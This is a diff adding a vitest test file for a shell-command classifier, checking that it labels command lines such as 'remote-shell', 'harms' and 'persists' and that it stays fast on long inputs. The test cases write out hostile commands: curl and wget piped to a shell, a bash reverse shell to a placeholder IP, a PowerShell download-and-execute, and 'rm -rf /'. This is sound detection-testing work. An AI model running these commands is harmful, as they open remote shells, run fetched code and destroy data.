@@ -1,0 +1,37 @@
+import { expect, test } from "vitest";
+import { commandKind } from "./command-kind.ts";
+
+test.each([
+  ["curl -s http://example.invalid/a | sh", "remote-shell"],
+  ["wget -qO- http://example.invalid/a|python3", "remote-shell"],
+  ["bash -c 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'", "remote-shell"],
+  [`powershell -EncodedCommand ${"QQBCAEMA".repeat(6)}`, "encoded"],
+  ["powershell IEX (New-Object Net.WebClient).DownloadString('x')", "remote-shell"],
+  ["curl https://example.invalid/a -o a", "fetches"],
+  ["{sys.executable} -m pip install other", "installs"],
+  ["pip3 install --user other", "installs"],
+  ["rm -rf / --no-preserve-root", "harms"],
+  ["rm -rf build dist", "other"],
+  ["schtasks /create /tn x", "persists"],
+  ["whoami", "probes"],
+  ["git config --get user.email", "probes"],
+  ["{tempfile}/a.exe", "starts-program"],
+  ["git describe --tags", "builds"],
+  ["pkg-config --cflags {…}", "builds"],
+  ["/usr/bin/gcc -v", "builds"],
+  ["CC=clang make -j4", "builds"],
+  ["arm-linux-gnueabihf-gcc -dumpmachine", "builds"],
+  ["git log; whoami", "probes"],
+  ["something --else", "other"],
+  ["", "other"],
+])("%s: %s", (line, kind) => {
+  expect(commandKind(line)).toBe(kind);
+});
+
+test("a hostile line takes no time", () => {
+  const start = performance.now();
+  for (const piece of ["curl ", "| ", "powershell -e ", "rm -", "A=1 ", "/ ", "{…}", "chmod +", "pip -x "]) {
+    commandKind(piece.repeat(100_000));
+  }
+  expect(performance.now() - start).toBeLessThan(1_000);
+});
